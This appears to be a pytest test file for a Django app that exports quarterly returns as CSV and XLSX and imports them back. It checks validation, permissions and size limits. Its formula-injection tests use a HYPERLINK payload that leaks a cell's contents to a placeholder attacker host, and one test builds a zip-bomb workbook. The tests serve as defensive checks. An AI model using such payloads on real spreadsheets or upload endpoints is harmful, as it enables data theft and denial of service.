"""A quarter downloads as CSV and XLSX in the same columns and uploads back; one bad row saves nothing."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from mou.models import QuarterlyReturn
from mou.spreadsheets import HEADERS

pytestmark = pytest.mark.django_db


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def upload(staff_client, mou, quarter, rows, name="q.csv"):
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    file = SimpleUploadedFile(name, buffer.getvalue().encode("utf-8"))
    url = f"/admin/mou/mou/{mou.pk}/quarter/{quarter}/import/"
    return staff_client.post(url, {"file": file}, follow=True).content.decode()


def test_csv_and_xlsx_downloads_have_the_same_columns_and_rows(staff_client, mou):
    """Signed in, as officers download a quarter to fill in: drafts too (the public's download,
    approved returns only: tests/mou/test_visibility.py)."""
    from_csv = csv_rows(staff_client.get("/mou/2030-31/q2-returns.csv").content)
    workbook = load_workbook(io.BytesIO(staff_client.get("/mou/2030-31/q2-returns.xlsx").content))
    from_xlsx = [
        ["" if v is None else str(v) for v in row] for row in workbook.active.iter_rows(values_only=True)
    ]
    assert from_csv[0] == HEADERS
    assert from_csv == from_xlsx
    assert from_csv[1][:4] == ["peer", "1", "at least 30 peer challenges", "9"]
    assert from_csv[2][:8] == ["leads", "3", "at least 60 councils", "41", "", "", "41 councils", "red"]


def test_an_edited_download_uploads_back(staff_client, client, mou):
    rows = csv_rows(client.get("/mou/2030-31/q3-returns.csv").content)
    rows[1][3:8] = ["8", "", "", "8 delivered", "green"]
    rows[2][3:8] = ["50", "", "", "50 councils", "amber"]
    html = upload(staff_client, mou, 3, rows)
    assert "Q3: 2 returns imported." in html
    assert (
        QuarterlyReturn.objects.get(deliverable__theme__mou=mou, deliverable__reference="3", quarter=3).figure
        == 50
    )
    assert "50 councils" in client.get("/mou/2030-31/q3/").content.decode()


def test_one_bad_row_saves_nothing_and_every_problem_is_listed(staff_client, client, mou):
    rows = csv_rows(client.get("/mou/2030-31/q3-returns.csv").content)
    rows[1][3:8] = ["8", "", "", "8 delivered", "green"]  # good
    rows[2][3:8] = ["-5", "", "", "", "purple"]  # negative figure, unknown traffic light
    rows.append(["leads", "99", "", "1", "", "", "", "green", "", ""])  # no such deliverable
    html = upload(staff_client, mou, 3, rows)
    assert "Nothing was imported" in html
    assert "Row 3 (3, figure): A figure cannot be negative." in html
    assert (
        "Row 3 (3, traffic light): Select a valid choice. purple is not one of the available choices." in html
    )
    assert "Row 5: there is no deliverable 99 in theme leads." in html
    assert not QuarterlyReturn.objects.filter(deliverable__theme__mou=mou, quarter=3).exists()


def test_a_file_with_the_wrong_columns_or_type_is_refused(staff_client, mou):
    assert "The first row must be the column headings" in upload(
        staff_client, mou, 3, [["a", "b"], ["1", "2"]]
    )
    assert "Upload the quarter as a .csv or .xlsx file" in upload(
        staff_client, mou, 3, [HEADERS], name="q.txt"
    )
    html = upload(staff_client, mou, 3, [HEADERS], name="q.xlsx")
    assert "could not be read as an Excel workbook" in html


def test_an_officer_uploading_rows_for_deliverables_they_do_not_lead_is_refused(
    client, mou, django_user_model
):
    from django.contrib.auth.models import Group
    from django.test import Client

    from meetings.models import Person
    from mou.models import Deliverable

    officer = django_user_model.objects.create_user("officer-upload", is_staff=True)
    officer.groups.add(Group.objects.get(name="Officers"))
    person = Person.objects.create(slug="upload-officer", first_name="Una", last_name="Officer", user=officer)
    Deliverable.objects.filter(theme__mou=mou, reference="3").update(lead_officer=person)
    signed_in = Client()
    signed_in.force_login(officer)

    rows = csv_rows(client.get("/mou/2030-31/q3-returns.csv").content)
    rows[1][3:8] = ["8", "", "", "8 delivered", "green"]  # peer 1: not hers
    rows[2][3:8] = ["50", "", "", "50 councils", "amber"]  # leads 3: hers
    html = upload(signed_in, mou, 3, rows)
    assert "Row 2: you do not lead deliverable 1 of peer" in html
    assert not QuarterlyReturn.objects.filter(deliverable__theme__mou=mou, quarter=3).exists()

    rows[1][3:8] = ["", "", "", "", ""]  # her own row only
    assert "Q3: 1 return imported." in upload(signed_in, mou, 3, rows)


# -- a download uploaded back untouched changes nothing ------------------------------------------
FORMULA_LIKE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', "+44 20 7664 3000", "-", "@x", "\tx"]


def xlsx_table(content: bytes) -> list[list[str]]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [["" if v is None else str(v) for v in row] for row in sheet.iter_rows(values_only=True)]


def post_file(client, mou, quarter, content: bytes, name: str) -> str:
    url = f"/admin/mou/mou/{mou.pk}/quarter/{quarter}/import/"
    response = client.post(url, {"file": SimpleUploadedFile(name, content)}, follow=True)
    assert response.status_code == 200
    return response.content.decode()


@pytest.fixture
def officer_client(mou, django_user_model):
    """Una leads leads 3 only: peer 1 and leads 6 are not hers."""
    from django.contrib.auth.models import Group
    from django.test import Client

    from meetings.models import Person
    from mou.models import Deliverable

    officer = django_user_model.objects.create_user("officer-roundtrip", is_staff=True)
    officer.groups.add(Group.objects.get(name="Officers"))
    person = Person.objects.create(
        slug="roundtrip-officer", first_name="Una", last_name="Officer", user=officer
    )
    Deliverable.objects.filter(theme__mou=mou, reference="3").update(lead_officer=person)
    signed_in = Client()
    signed_in.force_login(officer)
    return signed_in


@pytest.fixture
def full_quarter(mou, staff_client):
    """Q2 as officers leave it: highlights, Windows line endings, figures with pence, a milestone
    not met, text a spreadsheet would take for a formula, and an approved (locked) return."""
    import datetime
    from decimal import Decimal

    from django.contrib.auth import get_user_model

    from mou import services
    from tests.factories import DeliverableFactory, QuarterlyReturnFactory

    peer, leads = mou.themes.order_by("order")
    by = get_user_model().objects.get(username="clerk-test")
    QuarterlyReturn.objects.filter(deliverable__theme=peer, quarter=2).update(
        narrative="9 more:\r\n- 4 in the North\r\n- 5 in the South", highlight="delivered 21 peer challenges"
    )
    peer_q2 = QuarterlyReturn.objects.get(deliverable__theme=peer, quarter=2)
    services.return_submit(quarterly_return=peer_q2, by=by)
    services.return_approve(quarterly_return=peer_q2, by=by)
    QuarterlyReturn.objects.filter(deliverable__theme=leads, quarter=2).update(
        narrative="=SUM(A1)", commentary="+44 20 7664 3000 ", highlight="supported 41 councils"
    )
    pence = DeliverableFactory(
        theme=peer, reference="2", order=2, commitment="Save £31.50.", target=100, comparator="up_to",
        unit="£", rule="additive",
    )  # fmt: skip
    QuarterlyReturnFactory(deliverable=pence, quarter=2, figure=Decimal("31.50"), rag="green")
    milestone = DeliverableFactory(
        theme=leads, reference="7", order=3, commitment="Launch the hub.", rule="milestone",
        due=datetime.date(2030, 9, 30),
    )  # fmt: skip
    QuarterlyReturnFactory(deliverable=milestone, quarter=2, milestone_met=False, rag="red", narrative="Late")
    return mou


def stored_quarter(mou, quarter):
    returns = QuarterlyReturn.objects.filter(deliverable__theme__mou=mou, quarter=quarter).order_by("pk")
    fields = ["pk", "figure", "not_applicable", "milestone_met", "narrative", "rag", "commentary",
              "correction_reason", "highlight", "status", "entered_by", "entered_at", "version"]  # fmt: skip
    return (
        list(returns.values_list(*fields)),
        QuarterlyReturn.history.filter(deliverable__theme__mou=mou, quarter=quarter).count(),
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_untouched_download_uploads_back_as_no_change(client, officer_client, full_quarter, fmt):
    before = stored_quarter(full_quarter, 2)
    download = client.get(f"/mou/2030-31/q2-returns.{fmt}").content
    html = post_file(officer_client, full_quarter, 2, download, f"q2.{fmt}")
    assert "Q2: no changes; 0 returns imported." in html
    assert "Nothing was imported" not in html
    assert stored_quarter(full_quarter, 2) == before
    assert not QuarterlyReturn.objects.filter(
        deliverable__theme__mou=full_quarter, deliverable__reference="6"
    ).exists()


def with_figure(download: bytes, fmt: str, key: list[str], figure) -> bytes:
    """The download as an officer edits it: one figure changed, everything else as it came."""
    if fmt == "csv":
        rows = csv_rows(download)
        next(row for row in rows if row[:2] == key)[3] = str(figure)
        buffer = io.StringIO()
        csv.writer(buffer).writerows(rows)
        return buffer.getvalue().encode("utf-8")
    workbook = load_workbook(io.BytesIO(download))
    next(row for row in workbook.active.iter_rows() if [c.value for c in row[:2]] == key)[3].value = figure
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_upload_saves_only_the_row_that_changed(client, officer_client, full_quarter, fmt):
    returns, history = stored_quarter(full_quarter, 2)
    download = client.get(f"/mou/2030-31/q2-returns.{fmt}").content
    html = post_file(
        officer_client, full_quarter, 2, with_figure(download, fmt, ["leads", "3"], 43), f"q.{fmt}"
    )
    assert "Q2: 1 return imported." in html
    after, history_after = stored_quarter(full_quarter, 2)
    assert history_after == history + 1
    assert [new for old, new in zip(returns, after, strict=True) if old != new] == [
        next(row for row in after if row[1] == 43)
    ]
    record = QuarterlyReturn.objects.get(
        deliverable__theme__mou=full_quarter, deliverable__reference="3", quarter=2
    )
    assert (record.figure, record.narrative, record.highlight) == (43, "=SUM(A1)", "supported 41 councils")
    assert (
        record.commentary == "+44 20 7664 3000"
    )  # the row changed, so its text is saved as the form cleans it
    assert record.entered_by.username == "officer-roundtrip"


# -- formulas: none in a download, none read from an upload ---------------------------------------
def xlsx_bytes(workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_a_formula_in_an_uploaded_workbook_is_refused_naming_its_row_and_column(client, staff_client, mou):
    before = stored_quarter(mou, 2)
    workbook = load_workbook(io.BytesIO(client.get("/mou/2030-31/q2-returns.xlsx").content))
    workbook.active["D3"] = "=SUM(D1:D2)"  # leads 3's figure: openpyxl saves no result with it
    workbook.active["I2"] = "=A1"  # peer 1's commentary
    html = post_file(staff_client, mou, 2, xlsx_bytes(workbook), "q2.xlsx")
    assert "Nothing was imported" in html
    assert "Row 3, column Figure: this cell holds a formula (=SUM(D1:D2)); type the value instead." in html
    assert (
        "Row 2, column Commentary/forecast: this cell holds a formula (=A1); type the value instead." in html
    )
    assert stored_quarter(mou, 2) == before


def test_text_that_looks_like_a_formula_downloads_inert_and_uploads_back_unchanged(client, staff_client, mou):
    mine = QuarterlyReturn.objects.filter(deliverable__theme__mou=mou, quarter=2)
    mine.filter(deliverable__reference="3").update(
        narrative=FORMULA_LIKE[0], commentary=FORMULA_LIKE[1], correction_reason=FORMULA_LIKE[2],
        highlight=FORMULA_LIKE[3],
    )  # fmt: skip
    mine.filter(deliverable__reference="1").update(narrative=FORMULA_LIKE[4], commentary="'=quoted already")
    before = stored_quarter(mou, 2)

    from_csv = csv_rows(client.get("/mou/2030-31/q2-returns.csv").content)
    assert from_csv[2][3] == "41"
    assert [from_csv[2][i] for i in (6, 8, 9, 10)] == ["'" + text for text in FORMULA_LIKE[:4]]
    assert [from_csv[1][i] for i in (6, 8)] == ["'\tx", "''=quoted already"]

    workbook = client.get("/mou/2030-31/q2-returns.xlsx").content
    cells = {
        cell.coordinate: cell
        for row in load_workbook(io.BytesIO(workbook)).active.iter_rows()
        for cell in row
    }
    assert not [name for name, cell in cells.items() if cell.data_type == "f"]
    assert (cells["G3"].value, cells["G3"].data_type) == (FORMULA_LIKE[0], "s")
    assert (cells["I3"].value, cells["G2"].value) == (FORMULA_LIKE[1], "\tx")
    assert (cells["D3"].value, cells["D3"].data_type) == (41, "n")  # the figure stays a number

    for content, name in [
        (client.get("/mou/2030-31/q2-returns.csv").content, "q2.csv"),
        (workbook, "q2.xlsx"),
    ]:
        assert "Q2: no changes; 0 returns imported." in post_file(staff_client, mou, 2, content, name)
    assert stored_quarter(mou, 2) == before


def test_a_pasted_control_character_neither_breaks_the_workbook_nor_counts_as_a_change(
    client, staff_client, mou
):
    QuarterlyReturn.objects.filter(deliverable__theme__mou=mou, deliverable__reference="3", quarter=2).update(
        narrative="41 councils\x0bsee annex"  # Word's soft line break, pasted
    )
    before = stored_quarter(mou, 2)
    response = client.get("/mou/2030-31/q2-returns.xlsx")
    assert xlsx_table(response.content)[2][6] == "41 councilssee annex"
    html = post_file(staff_client, mou, 2, response.content, "q2.xlsx")
    assert "Q2: no changes; 0 returns imported." in html
    assert stored_quarter(mou, 2) == before


# -- limits: a refusal that says why, never a server error ------------------------------------------
def test_a_csv_cell_beyond_what_the_reader_takes_is_refused_naming_the_row(client, staff_client, mou):
    before = stored_quarter(mou, 2)
    rows = csv_rows(client.get("/mou/2030-31/q2-returns.csv").content)
    rows[2][6] = "x" * 200_000
    html = upload(staff_client, mou, 2, rows)
    assert "Nothing was imported" in html
    assert (
        "Row 3: a cell is far longer than any return needs (a text may have up to 10,000 characters)" in html
    )
    assert stored_quarter(mou, 2) == before


def test_a_text_over_10000_characters_is_refused_in_an_upload_and_on_screen(client, staff_client, mou):
    before = stored_quarter(mou, 2)
    rows = csv_rows(client.get("/mou/2030-31/q2-returns.csv").content)
    rows[2][6] = "x" * 10_001
    html = upload(staff_client, mou, 2, rows)
    assert "Row 3 (3, what have we delivered): Keep this to 10,000 characters or fewer; it has 10001." in html
    assert stored_quarter(mou, 2) == before

    three = mou.themes.get(key="leads").deliverables.get(reference="3")
    entry = f"/admin/mou/mou/{mou.pk}/quarter/2/?theme=leads"
    post = {f"d{three.pk}-figure": "41", f"d{three.pk}-rag": "red", f"d{three.pk}-narrative": "x" * 10_001}
    html = staff_client.post(entry, post).content.decode()
    assert "Nothing was saved" in html
    assert "Keep this to 10,000 characters or fewer; it has 10001." in html
    assert stored_quarter(mou, 2) == before


def test_an_upload_too_big_too_long_or_too_wide_is_refused_with_the_limit(client, staff_client, mou):
    import zipfile

    from openpyxl import Workbook

    before = stored_quarter(mou, 2)
    long = Workbook()
    long.active.append(HEADERS)
    for _ in range(1_000):
        long.active.append(["leads", "3", "", 41])
    assert "The file has more than 1,000 rows" in post_file(staff_client, mou, 2, xlsx_bytes(long), "q.xlsx")

    wide = load_workbook(io.BytesIO(client.get("/mou/2030-31/q2-returns.xlsx").content))
    wide.active["AN2"] = "note"
    html = post_file(staff_client, mou, 2, xlsx_bytes(wide), "q.xlsx")
    assert "Row 2: there is something beyond column 30; keep to the columns of the download." in html

    big = b"x" * (5 * 1024 * 1024 + 1)
    html = post_file(staff_client, mou, 2, big, "q.csv")
    assert "The file is 5.0 MB; the largest accepted is 5 MB" in html

    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b" " * (26 * 1024 * 1024))
    html = post_file(staff_client, mou, 2, bomb.getvalue(), "q.xlsx")
    assert "The workbook unpacks to 26 MB; the most accepted is 25 MB" in html
    assert stored_quarter(mou, 2) == before


def test_a_yes_no_column_with_a_word_it_does_not_know_is_refused(client, staff_client, mou):
    rows = csv_rows(client.get("/mou/2030-31/q2-returns.csv").content)
    rows[3][5], rows[3][7] = "maybe", "green"  # leads 6
    rows[2][4] = "nope"
    html = upload(staff_client, mou, 2, rows)
    assert "Row 4 (6, milestone met): write yes or no, or leave it blank." in html
    assert "Row 3 (3, n/a): write yes, or leave it blank." in html
    assert not QuarterlyReturn.objects.filter(
        deliverable__theme__mou=mou, deliverable__reference="6"
    ).exists()
